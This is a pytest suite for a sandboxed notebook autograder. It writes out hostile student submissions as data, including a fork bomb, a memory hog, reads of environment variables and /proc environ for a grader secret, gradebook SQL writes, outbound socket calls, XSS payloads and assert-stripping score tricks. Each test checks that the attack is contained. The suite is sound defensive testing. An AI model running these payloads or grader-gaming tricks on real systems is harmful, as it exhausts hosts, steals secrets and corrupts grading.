"""Hostile submissions: `make grade` contains them (course_lib.harness.classroom + course_lib.harness.sandbox).

One grading of a tiny lesson (two exercises, hidden tests) with an honest student and one student per attack:
reading the hidden tests, writing the gradebook, writing outside its folder, reading another student's work
and the grader's environment, a fork bomb, a memory hog, infinite loops that ignore SIGINT (one sleeping,
one spinning), a network call, and a slow cell that nbgrader interrupts; plus submissions that are not
notebooks. Each attack must fail, leave no trace
outside its sandbox, be named in the report, and leave the honest student's full marks alone. The limits are
small (1 GB, 8 CPU s, 64 processes, 45 s a notebook) so that the whole grading takes about a minute.

The class folder is hostile too: student folders named `*` (nbgrader takes a student id as a pattern: that
submission would be graded in place of everyone's), `--help` and one with a newline; a case-changed file name,
a copy (`01_tiny (1).ipynb`), an empty folder, a FIFO, and a second lesson released but not handed in: each
gets its row. Submissions that inject scripts into their feedback, print 1 GB, write thousands of files or fill
the disk are contained; the feedback runs nothing in headless Chromium; and two gradings at once keep out of
each other's way.
"""
import csv
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from course_lib.core import paths
from course_lib.harness import classroom, sandbox
from course_lib.harness.sandbox import Limits


LESSON = "01_tiny"
TAG = uuid.uuid4().hex[:12]
HIDDEN_MARKER = f"hidden-test-{TAG}"      # only in the hidden tests
HONEST_MARKER = f"honest-work-{TAG}"      # only in the honest student's solution
SECRET = f"grader-secret-{TAG}"           # only in the grader's environment
LESSON2 = "02_tiny"                       # released, handed in by nobody
LIMITS = Limits(wall_seconds=45, cpu_seconds=8, memory_gb=1, processes=64, disk_gb=0.2, files=2000, output_mb=5)
PWNED_JS = "window.__pwned = (window.__pwned || []).concat"   # what each injected script would call
CELL_TIMEOUT = 12  # seconds per cell, nbgrader's own limit (interrupts the cell, then goes on)
HOST_TMP_FILE = Path("/tmp") / f"written-by-a-submission-{TAG}"
UNSAFE_NAMES = ("*", "--help", "new\nline")
# One line each, in place of exercise 1's solution of the untouched copy: each scored full marks in the notebook's
# own kernel (issue 29); the re-run in a fresh process (course_lib.harness.verify) must score them 0.
SCORE_TRICKS = {
    "trick_transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n",
    "trick_no_asserts": ("get_ipython().input_transformers_cleanup.append(\n"
                         "    lambda lines: [l for l in lines if not l.lstrip().startswith('assert')])\n"),
    "trick_duck": ("class _Anything:\n    def __eq__(self, other):\n        return True\n\n"
                   "    def __hash__(self):\n        return 0\n\n\n"
                   "def double(x):\n    return _Anything()\n"),
}
MISNAMED = {"case_changed": "01_TINY.ipynb", "a_copy": f"{LESSON} (1).ipynb"}


def _solution(grade_id, body):
    return nbformat.v4.new_code_cell(body, metadata={"nbgrader": {
        "grade": False, "grade_id": grade_id, "locked": False, "schema_version": 3, "solution": True}})


def _tests(grade_id, visible, hidden, points):
    source = f"{visible}\n### BEGIN HIDDEN TESTS\n{hidden}\n### END HIDDEN TESTS"
    return nbformat.v4.new_code_cell(source, metadata={"nbgrader": {
        "grade": True, "grade_id": grade_id, "locked": True, "points": points, "schema_version": 3,
        "solution": False}})


def tiny_lesson():
    """A lesson in the course's exercise format, small enough to grade in seconds."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [
        nbformat.v4.new_markdown_cell("# A tiny lesson"),
        nbformat.v4.new_code_cell("import math"),
        nbformat.v4.new_markdown_cell("**Exercise 1.** Double a number."),
        _solution("ex1_double", "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION"),
        _tests("ex1_tests", "assert double(1) == 2", f"assert double(21) == 42, {HIDDEN_MARKER!r}", 2),
        nbformat.v4.new_markdown_cell("**Exercise 2.** Square root, rounded down."),
        _solution("ex2_isqrt", "def isqrt(n):\n    ### BEGIN SOLUTION\n    return math.isqrt(n)\n    ### END SOLUTION"),
        _tests("ex2_tests", "assert isqrt(4) == 2", f"assert isqrt(99) == 9, {HIDDEN_MARKER!r}", 1),
    ]
    return nb


def _probe(paths_to_try, action):
    """Source of a cell that tries `action` on each path, prints what worked, then repeats the first attempt
    unguarded, so that the report shows the error a naive attack meets."""
    targets = [str(p) if isinstance(p, Path) else p for p in paths_to_try]
    return (f"_found = []\n"
            f"for _path in {targets!r}:\n"
            f"    try:\n"
            f"        _found.append((_path, {action}))\n"
            f"    except Exception as _err:\n"
            f"        print('blocked:', _path, type(_err).__name__)\n"
            f"print('got:', _found)\n"
            f"_path = {targets[0]!r}\n"
            f"{action}\n")


def hostile_code(course: Path, submissions: Path, port: int) -> dict[str, str]:
    """The cell each hostile student puts in place of exercise 1's solution."""
    source = course / "source" / LESSON / f"{LESSON}.ipynb"
    walk = ("import os\n"
            "for _top in ('/', os.getcwd() + '/../../..'):\n"
            "    for _dir, _subdirs, _files in os.walk(_top):\n"
            "        _subdirs[:] = [d for d in _subdirs if d not in ('proc', 'sys', 'dev', 'usr') and\n"
            "                       'site-packages' not in d and not d.startswith('python3')]\n"
            "        for _name in _files:\n"
            "            if _name.endswith(('.ipynb', '.db', '.json')):\n"
            "                try:\n"
            "                    _text = open(os.path.join(_dir, _name), errors='ignore').read()\n"
            "                    if '### END ' + 'HIDDEN TESTS' in _text:  # not the literal: its own copy has it\n"
            "                        print('hidden tests in', _dir, _name, _text)\n"
            "                except OSError:\n"
            "                    pass\n")
    snoop = ("import os\n"
             "print('environment:', dict(os.environ))\n"
             "for _pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
             "    for _what in ('cmdline', 'environ'):\n"
             "        try:\n"
             "            _text = open(f'/proc/{_pid}/{_what}', 'rb').read().decode(errors='ignore')\n"
             "        except OSError:\n"
             "            continue\n"
             "        if 'honest-work-' in _text or 'grader-secret-' in _text:\n"
             "            print('leak in', _pid, _what, _text)\n")
    return {
        "read_hidden": walk + _probe(
            [source, course / "autograded" / "read_hidden" / LESSON / f"{LESSON}.ipynb", course / "gradebook.db",
             Path("..") / ".." / ".." / "source" / LESSON / f"{LESSON}.ipynb"],
            "open(_path, errors='ignore').read()"),
        "write_gradebook": "import sqlite3\n" + _probe(
            [course / "gradebook.db"],
            "sqlite3.connect(f'file:{_path}?mode=rw', uri=True).executescript("
            "'UPDATE grade SET auto_score = 100; CREATE TABLE pwned (x)')"),
        "write_outside": _probe(
            [course / "pwned.txt", paths.ROOT / f"pwned-{TAG}.txt", submissions / "honest" / "pwned.txt",
             course / "release" / LESSON / f"{LESSON}.ipynb", HOST_TMP_FILE],
            "open(_path, 'w').write('pwned')"),
        "read_other": snoop + _probe(
            [submissions / "honest" / f"{LESSON}.ipynb",
             course / "submitted" / "honest" / LESSON / f"{LESSON}.ipynb",
             classroom.sandbox_dir(course, "honest", LESSON) / "home" / f"{LESSON}.ipynb",
             course / "autograded" / "honest" / LESSON / f"{LESSON}.ipynb"],
            "open(_path).read()"),
        "fork_bomb": ("import os\n"
                      "while True:\n"
                      "    try:\n"
                      "        os.fork()\n"
                      "    except OSError:\n"
                      "        pass\n"),
        "memory_hog": "hog = []\nwhile True:\n    hog.append(bytearray(128 * 2**20))  # 128 MB at a time, for ever\n",
        "sigint_sleeper": ("import signal, time\n"
                           "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                           "while True:\n"
                           "    time.sleep(0.5)\n"),
        "sigint_spinner": ("import signal\n"
                           "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                           "while True:\n"
                           "    pass\n"),
        "slow_cell": "import time\ntime.sleep(10**6)  # a cell nbgrader must interrupt (SIGINT) after its timeout\n",
        "inject_scripts": ("from IPython.display import HTML, Javascript, display\n"
                           f"display(Javascript('{PWNED_JS}([\"js output\"])'))\n"
                           f"display(HTML('<script>{PWNED_JS}([\"html script\"])</script>"
                           f"<img src=x onerror=\\'{PWNED_JS}([\"onerror\"])\\'>'))\n"
                           "def double(x):\n    return 2 * x\n"),
        "print_1gb": "for _ in range(1024):\n    print('x' * (2**20 - 1))\n",
        "many_files": ("import os\nos.makedirs('junk', exist_ok=True)\n"
                       "for _i in range(10**6):\n    open(f'junk/{_i}', 'w').close()\n"),
        "fill_disk": ("_chunk = b'x' * (50 * 2**20)\n"
                      "for _i in range(40):\n"
                      "    with open(f'big{_i}', 'wb') as _f:\n"
                      "        _f.write(_chunk)\n"),
        **SCORE_TRICKS,
        "network": "import socket\n" + _probe(
            [("127.0.0.1", port), ("example.com", 80), ("1.1.1.1", 53)],
            "socket.create_connection(_path, timeout=5).sendall(b'pwned')"),
    }


class Listener:
    """A TCP server on the host's loopback that remembers whether anyone connected."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self):
        self.server.close()


def _outputs_text(notebook: Path) -> str:
    """What the student's own cells printed. (Not the test cells': when one fails, IPython's traceback quotes
    the cell, hidden tests included; that is nbgrader's doing, not a way out of the sandbox.)"""
    nb = nbformat.read(notebook, as_version=4)
    return json.dumps([c.get("outputs", []) for c in nb.cells
                       if c.cell_type == "code" and not c.metadata.get("nbgrader", {}).get("grade")])


def _block_held_by_a_live_grading(block: int) -> bool:
    """Another grading (a second `make grade`, a CI run beside this one) holds this block's lock right now."""
    import fcntl
    import os

    lock = sandbox.UID_LOCKS / f"{block}.lock"
    if not lock.exists():
        return False
    fd = os.open(lock, os.O_RDWR | os.O_CLOEXEC)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return True
    finally:
        os.close(fd)                   # closing releases the lock if we took it
    return False


def _sandbox_uids_running() -> list[int]:
    """Sandbox uids with a process alive, in every block that no grading holds now: what a finished grading
    left behind. (Blocks locked by another grading running at the same time are that grading's business.)"""
    found = []
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            uid = int(next(line for line in status.read_text().splitlines() if line.startswith("Uid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            continue
        if sandbox.UID_BASE <= uid < sandbox.UID_BASE + sandbox.UID_BLOCKS * sandbox.UID_BLOCK:
            found.append(uid)
    held = {b for b in {(u - sandbox.UID_BASE) // sandbox.UID_BLOCK for u in found} if _block_held_by_a_live_grading(b)}
    return [u for u in found if (u - sandbox.UID_BASE) // sandbox.UID_BLOCK not in held]


def _namespaces_refused() -> str | None:
    """Why the plainest bubblewrap sandbox fails here (no user namespaces, a container without privileges),
    or None. Only then may the hostile suite skip: a failure of our own sandbox must fail the tests."""
    bwrap = sandbox.bwrap_path()
    if bwrap is None:
        pytest.fail("bubblewrap is missing: install the instructor extra (pip install -e '.[instructor]')")
    plain = [bwrap, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-pid", "--unshare-net"]
    if os.geteuid() != 0:
        plain.append("--unshare-user")
    proc = subprocess.run([*plain, "true"], capture_output=True, text=True)
    return None if proc.returncode == 0 else proc.stderr.strip()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    refused = _namespaces_refused()
    if refused:
        pytest.skip(f"this machine cannot sandbox (no user namespaces?): {refused}")
    why = sandbox.unavailable_reason()
    assert why is None, f"bubblewrap works here, but not our sandbox: {why}"
    tmp = tmp_path_factory.mktemp("hostile")
    notebooks, build, submissions = tmp / "notebooks", tmp / "build", tmp / "submissions"
    notebooks.mkdir()
    nbformat.write(tiny_lesson(), notebooks / f"{LESSON}.ipynb")
    nbformat.write(tiny_lesson(), notebooks / f"{LESSON2}.ipynb")
    listener = Listener()
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(paths, "NOTEBOOKS", notebooks)      # the lessons are read from here
        mp.setenv("COURSE_GRADER_TOKEN", SECRET)      # a secret in the grader's environment
        release = classroom.generate_assignments([LESSON[:2], LESSON2[:2]], build)[0]
        course = build / "nbgrader"
        hidden_before = (course / "source" / LESSON / f"{LESSON}.ipynb").read_bytes()
        release_before = (course / "release" / LESSON / f"{LESSON}.ipynb").read_bytes()

        honest = tiny_lesson()
        honest.cells[3].source = honest.cells[3].source.replace("return 2 * x", f"return 2 * x  # {HONEST_MARKER}")
        students = {"honest": honest, "honest2": tiny_lesson()}
        for student, code in hostile_code(course, submissions, listener.port).items():
            nb = nbformat.read(release, as_version=4)
            nb.cells[3].source = code
            students[student] = nb
        students["inject_scripts"].cells.insert(0, nbformat.v4.new_markdown_cell(
            f"Math: $x^2 + 1$ <script>{PWNED_JS}(['markdown script'])</script>"
            f"<img src=x onerror=\"{PWNED_JS}(['markdown onerror'])\"> <a href=\"javascript:{PWNED_JS}(['link'])\">a</a>"))
        for name in UNSAFE_NAMES:                   # each would be graded, were it safe to name to nbgrader
            students[name] = nbformat.read(release, as_version=4)
        for student, nb in students.items():
            (submissions / student).mkdir(parents=True)
            nbformat.write(nb, submissions / student / f"{LESSON}.ipynb")
        for student, name in MISNAMED.items():
            (submissions / student).mkdir()
            nbformat.write(tiny_lesson(), submissions / student / name)
        (submissions / "empty").mkdir()
        (submissions / "fifo").mkdir()
        os.mkfifo(submissions / "fifo" / f"{LESSON}.ipynb")
        (submissions / "bad_json").mkdir()
        (submissions / "bad_json" / f"{LESSON}.ipynb").write_text('{"cells": [', encoding="utf-8")
        (submissions / "symlink").mkdir()
        (submissions / "symlink" / f"{LESSON}.ipynb").symlink_to(course / "source" / LESSON / f"{LESSON}.ipynb")

        start = time.perf_counter()
        result = classroom.grade(submissions, [LESSON[:2], LESSON2[:2]], build, timeout=CELL_TIMEOUT, jobs=3,
                                 limits=LIMITS, hide_hidden_tests=True)
        seconds = time.perf_counter() - start
    listener.close()
    print(f"graded {len(result.outcomes)} submissions in {seconds:.0f} s")
    yield {"result": result, "outcomes": {o.student: o for o in result.outcomes if o.lesson == LESSON},
           "all_outcomes": result.outcomes, "course": course,
           "build": build, "submissions": submissions, "listener": listener, "seconds": seconds,
           "hidden_before": hidden_before, "release_before": release_before}
    HOST_TMP_FILE.unlink(missing_ok=True)


def _marks(graded, student):
    return {m.grade_id: m.score for m in graded["result"].marks if m.student == student}


def _autograded_outputs(graded, student):
    return _outputs_text(graded["course"] / "autograded" / student / LESSON / f"{LESSON}.ipynb")


def test_honest_student_keeps_full_marks(graded):
    assert graded["outcomes"]["honest"].status == "graded"
    assert graded["outcomes"]["honest"].notes == ()
    assert _marks(graded, "honest") == {"ex1_tests": 2.0, "ex2_tests": 1.0}


def test_reading_the_hidden_tests_finds_nothing(graded):
    outcome = graded["outcomes"]["read_hidden"]
    assert outcome.graded and any("FileNotFoundError" in n for n in outcome.notes), outcome
    outputs = _autograded_outputs(graded, "read_hidden")
    assert HIDDEN_MARKER not in outputs and "hidden tests in" not in outputs
    assert "got: []" in outputs


def test_writing_the_gradebook_fails_and_changes_no_grade(graded):
    outcome = graded["outcomes"]["write_gradebook"]
    assert outcome.graded and any("OperationalError" in n for n in outcome.notes), outcome
    assert _marks(graded, "write_gradebook") == {"ex1_tests": 0.0, "ex2_tests": 0.0}
    with sqlite3.connect(graded["course"] / "gradebook.db") as db:
        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert "pwned" not in tables


def test_writing_outside_its_folder_leaves_no_trace(graded):
    outcome = graded["outcomes"]["write_outside"]
    assert outcome.graded and any("Error" in n for n in outcome.notes), outcome
    course = graded["course"]
    for path in [course / "pwned.txt", paths.ROOT / f"pwned-{TAG}.txt",
                 graded["submissions"] / "honest" / "pwned.txt", HOST_TMP_FILE]:
        assert not path.exists(), f"a submission wrote {path}"
    assert (course / "release" / LESSON / f"{LESSON}.ipynb").read_bytes() == graded["release_before"]
    assert (course / "source" / LESSON / f"{LESSON}.ipynb").read_bytes() == graded["hidden_before"]
    # its /tmp was private: the write "succeeded" there, inside its own sandbox folder, removed after grading
    assert not classroom.sandbox_dir(course, "write_outside", LESSON).exists()


def test_another_students_work_and_the_graders_environment_are_out_of_reach(graded):
    outcome = graded["outcomes"]["read_other"]
    assert outcome.graded and any("FileNotFoundError" in n for n in outcome.notes), outcome
    outputs = _autograded_outputs(graded, "read_other")
    assert "environment:" in outputs and "got: []" in outputs
    assert HONEST_MARKER not in outputs and SECRET not in outputs and "COURSE_GRADER_TOKEN" not in outputs
    assert "leak in" not in outputs


def test_fork_bomb_is_stopped_and_leaves_no_process(graded):
    outcome = graded["outcomes"]["fork_bomb"]
    # Which limit ends it depends on the machine's speed: on a quiet machine nbgrader's cell timeout interrupts
    # the looping kernel and grading goes on (its forks die with the sandbox); on a busy one the wall clock
    # stops the whole notebook first. Either way it is contained, reported, and earns nothing.
    if outcome.graded:
        assert "ex1_double: CellTimeoutError" in outcome.notes, outcome
        assert _marks(graded, "fork_bomb") == {"ex1_tests": 0.0, "ex2_tests": 0.0}
    else:
        assert outcome.status.startswith("not graded:"), outcome
    assert _sandbox_uids_running() == []


def test_memory_hog_meets_the_memory_limit(graded):
    outcome = graded["outcomes"]["memory_hog"]
    assert outcome.graded and any("MemoryError" in n for n in outcome.notes), outcome


def test_loop_ignoring_sigint_is_stopped_by_the_wall_clock(graded):
    outcome = graded["outcomes"]["sigint_sleeper"]
    assert outcome.status == f"not graded: exceeded the {LIMITS.wall_seconds} s wall-clock limit (stopped)"


def test_spinning_loop_ignoring_sigint_is_stopped_by_the_cpu_limit(graded):
    outcome = graded["outcomes"]["sigint_spinner"]
    # On a busy machine the wall clock may end the grading first; the kernel still died of its CPU limit.
    assert outcome.status.startswith("not graded:"), outcome
    assert "killed by SIGXCPU: the CPU-time limit" in " ".join([outcome.status, *outcome.notes]), outcome


def test_a_cell_past_its_timeout_is_interrupted_and_grading_goes_on(graded):
    outcome = graded["outcomes"]["slow_cell"]  # SIGINT must reach the kernel through bwrap, and not kill it
    assert outcome.graded and "ex1_double: KeyboardInterrupt" in outcome.notes, outcome
    assert _marks(graded, "slow_cell") == {"ex1_tests": 0.0, "ex2_tests": 0.0}


def test_network_calls_fail(graded):
    outcome = graded["outcomes"]["network"]
    assert outcome.graded and any("ConnectionRefusedError" in n or "OSError" in n for n in outcome.notes), outcome
    assert "got: []" in _autograded_outputs(graded, "network")
    assert graded["listener"].connections == 0, "a submission reached a server on the grader's loopback"


def test_submissions_that_are_not_notebooks_are_not_gradable(graded):
    assert graded["outcomes"]["bad_json"].status.startswith("not gradable: not a notebook (NotJSONError")
    assert graded["outcomes"]["symlink"].status == "not gradable: a symbolic link, not a notebook file"


def test_grades_csv_names_every_misbehaving_submission(graded):
    with open(graded["build"] / "grades.csv", newline="", encoding="utf-8") as f:
        rows = {r["student_id"]: r for r in csv.DictReader(f) if r["assignment"] == LESSON}
    assert set(rows) == set(graded["outcomes"])
    for student, outcome in graded["outcomes"].items():
        assert rows[student]["status"] == outcome.status
        assert rows[student]["notes"] == "; ".join(outcome.notes)
        if not outcome.graded:
            assert rows[student]["score"] == "", f"{student} was not graded but shows a score"
    assert float(rows["honest"]["score"]) == 3.0 and rows["honest"]["notes"] == ""
    assert rows["bad_json"]["max_score"] == "3.0"
    assert sorted(s for s, o in graded["outcomes"].items() if o.notes == () and o.graded) == ["honest", "honest2"]


def test_no_feedback_from_a_notebook_that_did_not_run_through(graded):
    feedback = graded["build"] / "feedback"
    assert (feedback / "honest" / f"{LESSON}.html").exists()
    for student in ("sigint_sleeper", "sigint_spinner", "bad_json", "symlink"):
        assert not (feedback / student / f"{LESSON}.html").exists()
    # the fork bomb runs through when the cell timeout, not the wall clock, ends it (see its test above)
    fork_bomb = graded["outcomes"]["fork_bomb"]
    assert (feedback / "fork_bomb" / f"{LESSON}.html").exists() == fork_bomb.graded, fork_bomb


# ---- cheap: no notebook runs ----

def test_grading_refuses_without_a_sandbox(monkeypatch, tmp_path):
    monkeypatch.setattr(sandbox, "unavailable_reason", lambda: "user namespaces are disabled")
    with pytest.raises(RuntimeError, match="(?s)user namespaces are disabled.*--unsafe-no-sandbox"):
        classroom.grade(tmp_path, ["01"], tmp_path / "build")


@pytest.mark.parametrize("content, why", [
    ('{"cells": [', "not a notebook (NotJSONError"),
    ("\udcff", "not a notebook"),
    ('{"cells": 3, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}', "not a notebook (TypeError"),
    ('{"cells": [{"cell_type": "code", "id": "a", "metadata": {}, "source": ""}], "metadata": {}, '
     '"nbformat": 4, "nbformat_minor": 5}', "not a valid notebook ('outputs' is a required property"),
])
def test_not_a_notebook_says_why(tmp_path, content, why):
    path = tmp_path / "alice" / f"{LESSON}.ipynb"
    path.parent.mkdir()
    path.write_bytes(content.encode("utf-8", "surrogateescape"))
    assert classroom._why_not_gradable(path, tmp_path).startswith(why)


def test_limits_name_the_bad_argument():
    with pytest.raises(ValueError, match=r"Limits.memory_gb=0: expected a finite number > 0"):
        Limits(memory_gb=0)
    for bad in (float("inf"), float("nan"), -1):
        with pytest.raises(ValueError, match=r"Limits.memory_gb=.*: expected a finite number > 0"):
            Limits(memory_gb=bad)


@pytest.mark.parametrize("flag", ["--memory-gb=inf", "--memory-gb=-1", "--disk-gb=nan", "--max-files=0"])
def test_bad_limits_on_the_command_line_are_clear_errors(flag, tmp_path, capsys):
    with pytest.raises(SystemExit) as exit_:
        classroom.main(["grade", str(tmp_path), flag])
    assert exit_.value.code == 2
    assert "expected a finite number > 0" in capsys.readouterr().err


# ---- the class folder, the grader's own resources, the feedback ----

def test_unsafe_folder_names_get_a_row_and_never_reach_nbgrader(graded):
    for name in UNSAFE_NAMES:
        outcome = graded["outcomes"][ascii(name)]
        assert outcome.status.startswith(f"not gradable: the folder name {ascii(name)} is not a student id"), outcome
        assert _marks(graded, ascii(name)) == {} and _marks(graded, name) == {}
    # a `*` handed to nbgrader would have re-graded everyone inside its sandbox
    assert _marks(graded, "honest") == {"ex1_tests": 2.0, "ex2_tests": 1.0}
    assert _marks(graded, "honest2") == {"ex1_tests": 2.0, "ex2_tests": 1.0}
    assert not (graded["course"] / "autograded" / "*").exists()


def test_every_entry_of_the_class_folder_has_a_row(graded):
    outcomes = graded["outcomes"]
    assert outcomes["case_changed"].status == \
        f"not gradable: found 01_TINY.ipynb; expected exactly {LESSON}.ipynb (rename it)"
    assert outcomes["a_copy"].status == \
        f"not gradable: found {LESSON} (1).ipynb; expected exactly {LESSON}.ipynb (rename it)"
    assert outcomes["empty"].status == "not submitted"
    assert outcomes["fifo"].status == "not gradable: a FIFO, not a notebook file"
    entries = {ascii(p.name) if p.name in UNSAFE_NAMES else p.name for p in graded["submissions"].iterdir()}
    assert entries == set(outcomes)


def test_a_lesson_nobody_handed_in_is_not_submitted_without_a_score(graded):
    second = [o for o in graded["all_outcomes"] if o.lesson == LESSON2]
    assert second and all(o.status in ("not submitted",) or o.status.startswith("not gradable: the folder name")
                          for o in second), second
    with open(graded["build"] / "grades.csv", newline="", encoding="utf-8") as f:
        rows = [r for r in csv.DictReader(f) if r["assignment"] == LESSON2]
    assert rows and all(r["score"] == "" and (r["status"] == "not submitted" or
                                              r["status"].startswith("not gradable:")) for r in rows), rows


def test_a_submission_printing_1gb_is_cut_and_noted(graded):
    """Three endings contain it, and which one comes depends on timing. Either the grader counts the output past
    its cap, drops the rest and says so; or, when the grader reads more slowly than the kernel writes, the kernel
    reaches its own memory limit (1 GB here) first, most likely with output still waiting to be sent, and the cell
    stops with MemoryError, noted against its exercise (seen once, in a CI run beside a lesson run); or that limit
    is hit inside a C allocation (the output queue), the kernel aborts and the submission is reported "not graded:
    the kernel was killed by SIGABRT" (seen once, in a clean-clone CI run on a quiet machine, 2026-12-08). The third
    costs the student the grade of the rest of that notebook: a known defect until the kernel's output queue is
    bounded below its memory limit. All three are reported, and the grader's copy of the notebook stays small.
    What must never happen: none of them, or a large notebook."""
    outcome = graded["outcomes"]["print_1gb"]
    notes = outcome.notes + (outcome.status,)
    cut = any("output truncated" in n for n in notes)
    stopped_by_its_memory_limit = "ex1_double: MemoryError" in notes
    kernel_killed = not outcome.graded and outcome.status.startswith("not graded: the kernel was killed")
    assert cut or stopped_by_its_memory_limit or kernel_killed, outcome
    executed = graded["course"] / "autograded" / "print_1gb" / LESSON / f"{LESSON}.ipynb"
    if outcome.graded:
        assert executed.stat().st_size < 2 * LIMITS.output_mb * 2**20


def test_files_and_bytes_are_capped_while_it_runs_and_sandboxes_are_removed(graded):
    assert graded["outcomes"]["many_files"].status == f"not graded: made more than {LIMITS.files} files (stopped)"
    assert graded["outcomes"]["fill_disk"].status == f"not graded: wrote more than {LIMITS.disk_gb:g} GB (stopped)"
    left = graded["course"] / "sandbox" / LESSON
    assert not left.exists() or list(left.iterdir()) == []


def test_feedback_leaves_the_hidden_tests_out_and_carries_no_script(graded):
    pages = sorted((graded["build"] / "feedback").glob(f"*/{LESSON}.html"))
    assert len(pages) >= 2
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert HIDDEN_MARKER not in html and "BEGIN HIDDEN TESTS" not in html, page
        head = html[html.lower().index("<head"):]
        assert head[head.index(">") + 1:].startswith('<meta http-equiv="Content-Security-Policy"'), page
        nonce = re.search(r"'nonce-([^']+)'", html).group(1)
        scripts = re.findall(r"<script\b[^>]*>", html, re.IGNORECASE)
        assert scripts and all(f'nonce="{nonce}"' in tag for tag in scripts), scripts
    injected = (graded["build"] / "feedback" / "inject_scripts" / f"{LESSON}.html").read_text(encoding="utf-8")
    # the injected code is shown as text (the listing of its cell), never as an element or an attribute
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", injected, re.IGNORECASE)
    assert not re.search(r"href\s*=\s*[\"']?\s*javascript:", injected, re.IGNORECASE)
    assert (graded["build"] / "feedback" / "mathjax").is_dir()


def test_feedback_runs_nothing_in_chromium(graded):
    chromium = os.environ.get("CHROMIUM") or shutil.which("chromium")
    if not chromium:
        pytest.skip("no chromium (make test-browser installs Debian's)")
    sync_playwright = pytest.importorskip("playwright.sync_api").sync_playwright
    page_file = graded["build"] / "feedback" / "inject_scripts" / f"{LESSON}.html"
    # the same page without the policy and the sanitizer would run the scripts: the control
    control = graded["build"] / "feedback" / "control.html"
    control.write_text(f"<html><head></head><body><script>{PWNED_JS}(['control'])</script></body></html>")
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium, headless=True, args=["--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page()
            page.goto(control.as_uri())
            assert page.evaluate("window.__pwned") == ["control"]
            page.goto(page_file.as_uri())
            page.wait_for_selector("mjx-container", timeout=60_000)   # the local MathJax ran (its nonce)
            page.mouse.move(10, 10)
            for img in page.query_selector_all("img"):
                img.hover()
            page.wait_for_timeout(1000)
            assert page.evaluate("window.__pwned === undefined"), page.evaluate("window.__pwned")
        finally:
            browser.close()


def test_two_gradings_at_once_keep_out_of_each_others_way(graded, tmp_path):
    """Two gradings side by side, each with its submission number 0 (the same uid, before uid blocks): the quick
    one's cleanup (a kill of its uid) must not reach the slow one's kernel, which sleeps through it."""
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    nbformat.write(tiny_lesson(), notebooks / f"{LESSON}.ipynb")
    slow = tiny_lesson()
    slow.cells[1].source = "import math, time\ntime.sleep(8)"      # still running when the quick grading ends
    classes = {"quick": tiny_lesson(), "slow": slow}
    results, errors = {}, []

    def grade(name):
        try:
            folder = tmp_path / name / "submissions"
            (folder / name).mkdir(parents=True)
            nbformat.write(classes[name], folder / name / f"{LESSON}.ipynb")
            results[name] = classroom.grade(folder, [LESSON[:2]], tmp_path / name / "build", timeout=CELL_TIMEOUT,
                                            jobs=1, limits=LIMITS, keep_sandboxes=True, feedback=False)
        except Exception as err:  # reported below, in the test's thread
            errors.append(err)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(paths, "NOTEBOOKS", notebooks)
        for name in classes:                          # released first: the gradings themselves overlap
            classroom.generate_assignments([LESSON[:2]], tmp_path / name / "build")
        threads = [threading.Thread(target=grade, args=(name,)) for name in classes]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    assert errors == []
    uids = set()
    for name in classes:
        outcome = results[name].outcomes[0]
        assert outcome.status == "graded" and outcome.notes == (), outcome
        assert {m.grade_id: m.score for m in results[name].marks} == {"ex1_tests": 2.0, "ex2_tests": 1.0}
        plan = classroom.sandbox_dir(tmp_path / name / "build" / "nbgrader", name, LESSON) / "plan.json"
        uids.add(json.loads(plan.read_text())["uid"])
    assert len(uids) == 2 or uids == {None}, uids
    assert _sandbox_uids_running() == []


def test_score_tricks_score_zero_when_the_tests_run_again_in_a_fresh_process(graded):
    for student in SCORE_TRICKS:
        outcome = graded["outcomes"][student]
        assert outcome.graded, outcome
        assert _marks(graded, student) == {"ex1_tests": 0.0, "ex2_tests": 0.0}, (student, outcome)
        assert any("passed in the notebook, failed in a fresh process" in n for n in outcome.notes), outcome
    with open(graded["build"] / "grades.csv", newline="", encoding="utf-8") as f:
        rows = {r["student_id"]: r for r in csv.DictReader(f) if r["assignment"] == LESSON}
    assert all(float(rows[s]["score"]) == 0.0 for s in SCORE_TRICKS)
    # the control: honest work passes the same re-run (full marks above), and a right answer in a student's
    # own helper-laden submission keeps its points
    assert _marks(graded, "inject_scripts")["ex1_tests"] == 2.0


def test_secure_feedback_strips_scripts_handlers_and_script_links():
    from course_lib.harness.feedback import secure

    page = ("<html><head><title>t</title></head><body><script>bad()</script><img alt='a' OnError=\"bad()\" "
            "src=\"data:image/png;base64,AAAA\"><a href=' javascript:bad()'>x</a><p>text onload=3 stays</p></body></html>")
    html = secure(page, "../mathjax/tex-mml-chtml.js")
    nonce = re.search(r"'nonce-([^']+)'", html).group(1)
    assert html.startswith('<html><head><meta http-equiv="Content-Security-Policy"')
    assert "bad()" not in html.replace("#blocked:bad()", "") and "onerror" not in html.lower()
